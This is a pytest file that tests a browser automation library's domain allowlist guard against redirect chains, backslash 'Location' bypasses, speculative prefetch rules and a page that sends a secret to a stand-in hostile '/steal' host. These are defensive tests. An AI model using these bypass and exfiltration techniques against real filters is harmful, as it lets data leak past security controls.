"""allowed_domains checks every hop of a redirect chain, not only the first, and reads
``Location`` as a browser does; speculative loads to another host are refused where they can be
and always recorded.

The allowed host is 127.0.0.1, the hostile one ``localhost`` (another host name, another port),
which counts every request it gets. Each scenario runs three ways: guarded; guarded by the
route alone (the guard without its browser-level hop check: what the library did before), the
control that shows Playwright hands later hops to no route; and unguarded.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import urllib.parse
from collections.abc import Callable

import pytest
import pytest_asyncio
from _browser import new_stagehand_of_kind
from _server import Request, Response

from stagehand_py.browser._guard import DomainGuard, _policy, _speculation, url_allowed
from stagehand_py.browser._guard import _guard as guard_module
from stagehand_py.browser._guard._routes import RouteCheck

from .test_allowlist import SCENARIOS as KINDS
from .test_allowlist import _run


@pytest.fixture
def hops(server, cross_server):
    """``chain(n, final)``: an allowed URL answering ``n`` 302s on 127.0.0.1, the last to ``final``;
    ``backslash(path)``: an allowed URL answering ``Location: /\\localhost:<port>/<path>``."""

    def hop(req: Request) -> Response:
        n = int(req.query["n"])
        final = req.query["final"]
        nxt = server.url("hop?" + urllib.parse.urlencode({"n": n - 1, "final": final})) if n > 1 else final
        return Response(302, "", headers={"Location": nxt})

    def backslash(req: Request) -> Response:
        return Response(302, "", headers={"Location": f"/\\localhost:{cross_server.port}/{req.query['to']}"})

    with server.route("/hop", hop), server.route("/bs", backslash):
        yield {
            "chain": lambda n, final: server.url("hop?" + urllib.parse.urlencode({"n": n, "final": final})),
            "backslash": lambda to: server.url("bs?" + urllib.parse.urlencode({"to": to})),
        }


async def _guard(page, server, how: str) -> DomainGuard:
    guard = DomainGuard([f"127.0.0.1:{server.port}"], main_page=page)
    if how == "route-only":
        async def no_hop_check() -> None:
            return None
        guard._hops.install = no_hop_check  # type: ignore[method-assign]
    if how != "unguarded":
        await guard.install()
    return guard


@pytest.mark.parametrize("how", ["guarded", "control-route-only", "control-unguarded"])
@pytest.mark.parametrize("attack", ["three-302s", "backslash-location"])
@pytest.mark.parametrize("kind", list(KINDS))
async def test_every_hop_of_a_chain_is_checked(page, server, cross_server, hostile, hops, kind: str, attack: str,
                                              how: str) -> None:
    url = (hops["chain"](3, cross_server.url(f"steal?{kind}")) if attack == "three-302s"
           else hops["backslash"](f"steal?{kind}"))
    guard = await _guard(page, server, how.removeprefix("control-"))
    try:
        await _run(page, server, kind, url)
    finally:
        await guard.uninstall()
    if how == "guarded":
        assert hostile == []
        assert [b.url for b in guard.blocked] == [cross_server.url(f"steal?{kind}")]
    elif how == "control-unguarded":
        assert hostile == ["/steal"]  # the control: the unguarded browser lands there
    elif attack == "three-302s":
        # The route alone: Playwright gives routes only the first hop of a top-level navigation's
        # chain; for a frame, an image and a fetch the old guard held (measured, both page kinds).
        assert hostile == (["/steal"] if kind == "navigation" else [])
    else:
        # The old route-only guard checked the first Location, read by urljoin as a path on the
        # allowed host; now it resolves it as a browser does and blocks it.
        assert hostile == [] and guard.blocked


async def test_a_chain_inside_the_allowlist_still_arrives(page, server, hops) -> None:
    guard = await _guard(page, server, "guarded")
    try:
        await page.goto(hops["chain"](3, server.url("forms.html")))
        assert page.url == server.url("forms.html") and await page.title()
        fetched = await page.evaluate("(u) => fetch(u).then(r => r.url + ' ' + r.status)", hops["chain"](3, server.url("index.html")))
        assert fetched == server.url("index.html") + " 200"  # the browser followed the hops itself
    finally:
        await guard.uninstall()
    assert guard.blocked == []


@pytest.mark.parametrize(("location", "expected_host"), [
    ("/\\evil.example/x", "evil.example"),
    ("\\\\evil.example/x", "evil.example"),
    ("http:/\\evil.example/", "evil.example"),
    ("https:evil.example", "evil.example"),
    ("//evil.example\t/x", "evil.example"),
    (" /\\evil.example", "evil.example"),
])
def test_location_is_resolved_as_browsers_resolve_it(location: str, expected_host: str) -> None:
    from urllib.parse import urljoin, urlsplit

    from stagehand_py._util import resolve_url, url_parts

    base = "http://127.0.0.1:8000/start"
    resolved = resolve_url(base, location)
    assert resolved is not None and url_parts(resolved).host == expected_host  # type: ignore[union-attr]
    assert not url_allowed(resolved, ["127.0.0.1:8000"])
    if location.startswith("/\\"):
        assert urlsplit(urljoin(base, location)).hostname == "127.0.0.1"  # the control: urljoin reads a path


@pytest.mark.parametrize(("url", "pattern", "allowed"), [
    ("http://xn--fa-hia.example/", "faß.example", True),  # UTS #46, as browsers: ß kept
    ("http://fass.example/", "faß.example", False),  # IDNA 2003 would map ß to ss: another registrant
    ("http://faß.example/", "xn--fa-hia.example", True),
    ("http://FAß.example./", "*.example", True),
    ("http://shop.xn--fa-hia.example/", "*.faß.example", True),
    ("http://evil.example\\@127.0.0.1/", "127.0.0.1", False),  # a browser reads evil.example as the host
])
def test_hosts_are_normalised_with_uts46(url: str, pattern: str, allowed: bool) -> None:
    assert url_allowed(url, [pattern]) is allowed


def test_control_python_idna_2003_maps_eszett_away() -> None:
    assert "faß".encode("idna") == b"fass"


# How a page hands the browser its speculation rules (each asks for a prefetch and a prerender on
# the hostile host). RULES is the rule set; {rules_js} is it as a JavaScript string.
DELIVERIES = {
    "inline": "<script type='speculationrules'>{rules}</script>",
    "script-inserted": "<script>const s = document.createElement('script'); s.type = 'speculationrules';"
                       " s.text = {rules_js}; document.head.append(s);</script>",
    "document-write": "<script>document.write(\"<script type='speculationrules'>\" + {rules_js} + '</' + 'script>');"
                      "</script>",
    "document-open": "<script>onload = () => setTimeout(() => {{ document.open(); document.write("
                     "\"<title>Speculation</title><script type='speculationrules'>\" + {rules_js} + '</' + 'script>');"
                     " document.close(); }}, 100);</script>",
    "svg-script": "<svg><script type='speculationrules'>{rules}</script></svg>",
    "header": "",  # the Speculation-Rules response header names /rules.json
}
# Deliveries the remover cannot reach: the document's Connection-Allowlist header stops them.
UNREACHED = {
    "open-shadow-root": "<div id=host></div><script>const root = document.getElementById('host')"
                        ".attachShadow({{mode: 'open'}}); const s = document.createElement('script');"
                        " s.type = 'speculationrules'; s.text = {rules_js}; root.append(s);</script>",
    "closed-shadow-root": "<div id=host></div><script>const root = document.getElementById('host')"
                          ".attachShadow({{mode: 'closed'}}); const s = document.createElement('script');"
                          " s.type = 'speculationrules'; s.text = {rules_js}; root.append(s);</script>",
    "declarative-shadow-root": "<div><template shadowrootmode=closed><script type='speculationrules'>{rules}</script>"
                               "</template></div>",
    "popup-written-by-opener": "<script>const w = window.open(); w.document.write(\"<script type='speculationrules'>\""
                               " + {rules_js} + '</' + 'script>'); w.document.close();</script>",
}


def _sentinel_js(hops, server) -> str:
    """Script adding the sentinel: a rule set the remover cannot reach (a closed shadow root)
    prefetching an allowed chain of 4 hops ending at ``/sentinel``. When it arrives, the browser
    has had every rule set the page inserted before it and followed a prefetch's redirects."""
    rules = json.dumps({"prefetch": [{"source": "list", "urls": [hops["chain"](4, server.url("sentinel"))]}]})
    return ("{ const s = document.createElement('script'); s.type = 'speculationrules';"
            f" s.text = {json.dumps(rules)}; const host = document.createElement('div'); document.documentElement.append(host);"
            " host.attachShadow({mode: 'closed'}).append(s); }")


@pytest.fixture
def sentinel(server):
    """The requests ``/sentinel`` received."""
    with server.recording("/sentinel", Response.html("<title>sentinel</title>")) as arrived:
        yield arrived


@pytest.fixture
def speculation_site(server, cross_server):
    """``site(delivery)``: the address of a page (on the allowed host) whose speculation rules ask
    for a prefetch and a prerender on the hostile host, and the requests that host received."""
    hits: list[str] = []

    def dyn(req: Request) -> Response:
        hits.append(f"{req.path}?v={req.query.get('v', '')}")
        return Response.html("<title>hostile</title><p>prefetched</p>")

    rules = json.dumps({"prefetch": [{"source": "list", "urls": [cross_server.url("dyn?v=prefetch")]}],
                        "prerender": [{"source": "list", "urls": [cross_server.url("dyn?v=prerender")]}]})

    def speculate(req: Request) -> Response:
        delivery = req.query["d"]
        page = {**DELIVERIES, **UNREACHED}[delivery].format(rules=rules, rules_js=json.dumps(rules))
        response = Response.html(f"<!doctype html><title>Speculation</title><p>Hello</p>{page}")
        if delivery == "header":
            response.headers["Speculation-Rules"] = '"/rules.json"'
        return response

    def rule_set(req: Request) -> Response:
        return Response(200, rules, "application/speculationrules+json")

    with (cross_server.route("/dyn", dyn), server.route("/speculate", speculate),
          server.route("/rules.json", rule_set)):
        yield lambda delivery: (server.url("speculate?d=" + delivery), hits)


async def _speculate(page, url: str, until: Callable[[], bool], *, sentinel_after: Callable[[], bool] | None = None,
                     sentinel_js: str = "") -> None:
    """Open ``url`` and wait (generously) until ``until()``: for a control, that the hostile host
    got what it asserts; for a guarded case, the sentinel's arrival, ``sentinel_js`` being
    inserted once ``sentinel_after()`` (the guard recorded the attempt): a prefetch the guard let
    through would reach the hostile host before the sentinel's chain ends."""
    await page.goto(url)
    added = False
    # Checked every 50 ms (30 s at most): the conditions read what the servers and the guard's
    # event handlers recorded, so the check costs nothing and a 250 ms step only waited longer.
    for _ in range(600):
        if until():
            return
        if sentinel_after is not None and not added and sentinel_after():
            # Into the newest page: a popup the page opened is the visible one (a hidden page's
            # rules wait), and holds the rules the opener wrote.
            await page.context.pages[-1].evaluate(sentinel_js)
            added = True
        await asyncio.sleep(0.05)


def _speculation_recorded(guard: DomainGuard) -> Callable[[], bool]:
    return lambda: any(b.kind == "speculation" for b in guard.blocked)


async def _speculation_guard(page, server, how: str, monkeypatch) -> DomainGuard:
    if how == "control-without-remover":
        # The guard as it was before the remover and the Connection-Allowlist header (routes,
        # browser-level interception, prerendering off): the control that shows none of those
        # stops the prefetch.
        monkeypatch.setattr(_speculation, "REMOVER_SOURCE", "")
        monkeypatch.setattr(_speculation, "RULES_HEADER", "x-no-such-header")
        monkeypatch.setattr(guard_module, "allowlist_enforced", lambda version: False)
    return await _guard(page, server, "unguarded" if how == "control-unguarded" else "guarded")


@pytest.mark.parametrize("how", ["guarded", "control-without-remover", "control-unguarded"])
@pytest.mark.parametrize("delivery", list(DELIVERIES))
async def test_a_speculative_prefetch_never_reaches_another_host(page, server, cross_server, speculation_site, hops,
                                                                 sentinel, monkeypatch, delivery: str, how: str) -> None:
    url, hits = speculation_site(delivery)
    guard = await _speculation_guard(page, server, how, monkeypatch)
    try:
        if how == "guarded":
            await _speculate(page, url, lambda: bool(sentinel), sentinel_after=_speculation_recorded(guard),
                             sentinel_js=_sentinel_js(hops, server))
        else:
            await _speculate(page, url, lambda: "/dyn?v=prefetch" in hits)
    finally:
        await guard.uninstall()
    recorded = {(b.kind, b.resource_type, b.url) for b in guard.blocked}
    if how == "guarded":
        assert sentinel  # the wait ended on the sentinel, not on the bound
        assert hits == []
        if delivery == "header":
            assert recorded == {("speculation", "speculation-rules header", server.url("rules.json"))}
        else:
            assert recorded == {("speculation", "prefetch", cross_server.url("dyn?v=prefetch")),
                                ("speculation", "prerender", cross_server.url("dyn?v=prerender"))}
        assert await page.title() == "Speculation"  # the page itself is untouched
    else:
        assert "/dyn?v=prefetch" in hits  # the control: the browser's prefetch reached the hostile host
        if how == "control-unguarded":
            assert guard.blocked == []


@pytest.mark.parametrize("how", ["guarded", "control-without-remover"])
@pytest.mark.parametrize("delivery", ["inline", "closed-shadow-root"])
async def test_a_prefetch_of_an_allowed_address_redirecting_elsewhere_never_arrives(page, server, cross_server, hostile,
                                                                                  hops, sentinel, monkeypatch, delivery: str,
                                                                                  how: str) -> None:
    """The browser follows a prefetch's redirects itself: an allowed address that answers 302 to
    the hostile host is as good as the hostile address (measured: without the remover it arrives
    and nothing is recorded). Rules in a shadow root, which the remover cannot reach: the header
    carries ``redirects=allow``, yet Chromium does not follow that prefetch's redirect elsewhere
    (measured: nothing arrives)."""
    rules = json.dumps({"prefetch": [{"source": "list", "urls": [hops["chain"](1, cross_server.url("steal"))]}]})
    markup = {**DELIVERIES, **UNREACHED}[delivery].format(rules=rules, rules_js=json.dumps(rules))
    # The sentinel: after the attack's rules, a rule set the remover cannot reach (a closed shadow
    # root) prefetching an allowed chain three hops longer than the attack's. Its arrival shows the
    # browser has had the page's rules and followed the redirects of a prefetch listed after the
    # attack's (the guarded case waits for it, not for the hostile host to stay quiet 15 s).
    page_html = f"<!doctype html><title>Speculation</title>{markup}<script>{_sentinel_js(hops, server)}</script>"
    arrived = sentinel
    with server.route("/allowed-rules", lambda req: Response.html(page_html)):
        guard = await _speculation_guard(page, server, how, monkeypatch)
        try:
            await _speculate(page, server.url("allowed-rules"), lambda: bool(hostile or (how == "guarded" and arrived)))
        finally:
            await guard.uninstall()
    assert arrived or how != "guarded"  # the guarded case ended on the sentinel, not on the bound
    if how == "guarded":
        assert hostile == []
        if delivery == "inline":
            assert await page.locator("script[type=speculationrules]").count() == 0  # removed, not sent
    else:
        assert hostile == ["/steal"]  # the control: the prefetch's redirect reached the hostile host


async def test_the_page_keeps_its_rules_once_the_guard_is_gone(page, server, speculation_site) -> None:
    url, _ = speculation_site("inline")
    guard = await _guard(page, server, "guarded")
    await page.goto(url)
    await guard.uninstall()
    await page.evaluate("""(rules) => { const s = document.createElement('script'); s.type = 'speculationrules';
                           s.text = rules; document.head.append(s); }""",
                        json.dumps({"prefetch": [{"source": "list", "urls": ["/index.html"]}]}))
    assert await page.locator("script[type=speculationrules]").count() == 1


@pytest.mark.parametrize("how", ["guarded", "control-without-allowlist-header"])
@pytest.mark.parametrize("delivery", list(UNREACHED))
async def test_rules_the_remover_cannot_reach(page, server, cross_server, speculation_site, hops, sentinel, monkeypatch,
                                              caplog, delivery: str, how: str) -> None:
    """Rules in a shadow root or written by an opener into a new window: the document's
    ``Connection-Allowlist`` makes the browser refuse the prefetch; the attempt is recorded from
    the browser's ``Preload`` events either way. The control is the guard on a browser that does
    not enforce the header (its version check says so): everything else of the guard in place,
    the prefetch reaches the other host, and a warning says so."""
    url, hits = speculation_site(delivery)
    if how != "guarded":
        monkeypatch.setattr(guard_module, "allowlist_enforced", lambda version: False)
    guard = await _guard(page, server, "guarded")
    prefetch = ("speculation", "prefetch", cross_server.url("dyn?v=prefetch"))
    try:
        if how == "guarded":
            await _speculate(page, url, lambda: bool(sentinel), sentinel_after=_speculation_recorded(guard),
                             sentinel_js=_sentinel_js(hops, server))
        else:
            await _speculate(page, url, lambda: "/dyn?v=prefetch" in hits and prefetch in {
                (b.kind, b.resource_type, b.url) for b in guard.blocked})
    finally:
        await guard.uninstall()
    recorded = {(b.kind, b.resource_type, b.url) for b in guard.blocked}
    assert prefetch in recorded
    warned = [r.getMessage() for r in caplog.records if "does not enforce Connection-Allowlist" in r.getMessage()]
    if how == "guarded":
        assert sentinel  # the wait ended on the sentinel, not on the bound
        assert hits == []
        assert warned == []
    else:
        assert "/dyn?v=prefetch" in hits  # the control: the browser's own prefetch reached the hostile host
        assert warned


@pytest.mark.parametrize("how", ["guarded", "control-without-allowlist-header"])
async def test_a_document_reached_through_redirects_gets_the_header_too(page, server, cross_server, speculation_site,
                                                                       hops, sentinel, monkeypatch, how: str) -> None:
    """The route sees only a chain's first hop; the document at its end gets its header from the
    guard's browser-level interception."""
    url, hits = speculation_site("closed-shadow-root")
    if how != "guarded":
        monkeypatch.setattr(_speculation, "ALLOWLIST_HEADER", "x-no-such-header")
    guard = await _guard(page, server, "guarded")
    try:
        if how == "guarded":
            await _speculate(page, hops["chain"](2, url), lambda: bool(sentinel),
                             sentinel_after=_speculation_recorded(guard), sentinel_js=_sentinel_js(hops, server))
        else:
            await _speculate(page, hops["chain"](2, url), lambda: "/dyn?v=prefetch" in hits)
    finally:
        await guard.uninstall()
    assert page.url == url
    if how == "guarded":
        assert sentinel  # the wait ended on the sentinel, not on the bound
        assert hits == []
    else:
        assert "/dyn?v=prefetch" in hits  # the control: the header renamed, the browser ignores it


# An allowlist, and addresses the guard admits or refuses under it, for the header's patterns.
HEADER_CASES = [
    (["127.0.0.1:8000"], ["http://127.0.0.1:8000/x?q=1#h", "ws://127.0.0.1:8000/s", "https://127.0.0.1:8000/",
                          "http://127.0.0.1:8001/", "http://localhost:8000/"]),
    (["example.com", "*.example.com"], ["http://example.com/", "https://example.com:8443/a", "http://a.b.example.com/",
                                        "http://example.com.evil.test/", "http://evilexample.com/"]),
    (["https://*.example.com"], ["https://x.example.com/", "http://x.example.com/", "https://example.com/"]),
    (["example.com:443"], ["https://example.com/", "wss://example.com/", "http://example.com:443/",
                           "http://example.com/", "https://example.com:8443/"]),
    (["http://example.com:80"], ["http://example.com/", "https://example.com:80/", "ws://example.com/"]),
    (["ex?mple.[a-c]om", "[!x]y.com"], ["http://exbmple.com/", "http://exmple.com/", "http://exbmple.dom/",
                                        "http://ay.com/", "http://xy.com/"]),
    (["faß.example"], ["http://xn--fa-hia.example/", "http://fass.example/"]),
]


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def pattern_page(browser, launched_stagehand):
    """``pattern_page(kind)``: one page of each kind for the header's pattern cases, made on first
    use. A case installs no guard and only evaluates ``URLPattern`` on a plain page, so a context
    and page of its own per case (14 of them) bought nothing."""
    async with contextlib.AsyncExitStack() as made:
        context = await browser.new_context()
        made.push_async_callback(context.close)
        pages = {}

        async def page_of(kind: str):
            if kind not in pages:
                pages[kind] = (await new_stagehand_of_kind(made, kind, context, launched_stagehand)).page
            return pages[kind]

        yield page_of


@pytest.mark.parametrize(("patterns", "urls"), HEADER_CASES, ids=[",".join(p) for p, _ in HEADER_CASES])
async def test_the_header_admits_exactly_what_the_allowlist_admits(pattern_page, page_kind: str, server,
                                                                   patterns: list[str], urls: list[str]) -> None:
    """Each URL pattern of the header, read by Chromium's own ``URLPattern``, against the guard's
    own reading of the allowlist."""
    header = _policy.connection_allowlist([_policy.parse_pattern(p) for p in patterns])
    assert header.startswith("(") and header.endswith(");redirects=allow")
    items = [json.loads(item) for item in header[1:header.index(");")].replace('" "', '"\n"').split("\n")]
    page = await pattern_page(page_kind)
    await page.goto(server.url("index.html"))
    browser_admits = await page.evaluate("""([items, urls]) => urls.map(
        (url) => items.some((item) => new URLPattern(item).test(url)))""", [items, urls])
    assert browser_admits == [url_allowed(url, patterns) for url in urls]
    assert any(browser_admits) and not all(browser_admits)  # each case admits some and refuses some


def test_control_a_pattern_left_to_url_pattern_defaults_reads_differently() -> None:
    """Why every pattern names its port and path: the guard admits any port of a host named
    without one, and an explicit default port for the other schemes too."""
    assert _policy.connection_allowlist([_policy.parse_pattern("example.com")]) == '("*://example.com:*/*");redirects=allow'
    assert _policy.connection_allowlist([_policy.parse_pattern("example.com:443")]) == (
        '("*://example.com:443/*" "https://example.com/*" "wss://example.com/*");redirects=allow')


@pytest.mark.parametrize("version", ["156.0.7632.6", "HeadlessChrome/152.0.1.2", "151.0.7000.1", "", "unknown"])
def test_the_header_is_used_from_chromium_152(version: str) -> None:
    assert _policy.allowlist_enforced(version) is version.removeprefix("HeadlessChrome/").startswith(("156", "152"))


SECRET = "hunter2 pass!"


@pytest.mark.parametrize("how", ["guarded", "control-without-browser-events"])
async def test_connections_the_browser_refuses_are_recorded(page, server, cross_server, hostile, monkeypatch, caplog,
                                                            how: str) -> None:
    """The header refuses a guarded document's connections elsewhere before any route or DevTools
    interception sees them: the guard records them from the browser's failed-request events and
    error pages, with the URL redacted in its log. The control takes both recorders' events
    without recording them: the events come (each waited for), nothing else records the refusals
    (the routes never saw them), and the hostile host is still not reached."""
    from stagehand_py._secrets import redact_text

    steal = cross_server.url("steal?v=" + urllib.parse.quote(SECRET))
    # window.settled: once all three loads ended, how the fetch ended: 'ok' had it reached the other
    # host (no-cors: an opaque answer), 'failed' refused. (The image and the frame tell nothing from
    # the page: an HTML answer is no image, and a frame's error page fires onload.)
    html = (f"<!doctype html><title>t</title><img src='{steal}&img'><iframe src='{steal}&frame'></iframe>"
            "<script>const ended = (el) => new Promise((done) => { el.onload = el.onerror = done; });"
            " window.settled = Promise.all([ended(document.querySelector('img')), ended(document.querySelector('iframe')),"
            f" fetch('{steal}&fetch', {{mode: 'no-cors'}}).then(() => 'ok', () => 'failed')]).then((ends) => ends[2]);"
            "</script>")
    seen: list[str] = []  # the control: what reached the recorders, unrecorded
    if how != "guarded":
        monkeypatch.setattr(RouteCheck, "on_request_failed", lambda self, request: seen.append(request.url))
        monkeypatch.setattr(DomainGuard, "_on_error_page",
                            lambda self, page, frame: seen.append(str(frame.get("unreachableUrl") or "")))
    guard = DomainGuard([f"127.0.0.1:{server.port}"], main_page=page, redact=lambda t: redact_text(t, {"pw": SECRET}))
    await guard.install()
    events = (lambda: len(guard.blocked) >= 3) if how == "guarded" else (
        lambda: all(any(url.endswith(end) for url in seen) for end in ("&img", "&fetch", "&frame")))
    try:
        with server.route("/refused", lambda req: Response.html(html)), caplog.at_level("INFO", "stagehand_py"):
            await page.goto(server.url("refused"))
            assert await page.evaluate("window.settled") == "failed"  # refused
            for _ in range(80):  # the records (or, in the control, the events) come as browser events
                if events():
                    break
                await page.wait_for_timeout(250)
    finally:
        await guard.uninstall()
    assert hostile == []
    recorded = {(b.kind, b.resource_type, b.url) for b in guard.blocked}
    if how == "guarded":
        assert recorded == {("request", "image", steal + "&img"), ("navigation", "document", steal + "&frame"),
                            ("request", "fetch", steal + "&fetch")}
        logged = "\n".join(r.getMessage() for r in caplog.records)
        assert "allowed_domains: blocked" in logged
        assert SECRET not in logged and urllib.parse.quote(SECRET) not in logged
    else:
        assert events(), seen  # the browser's events came ...
        assert recorded == set()  # ... and nothing else recorded the refusals: no route saw them

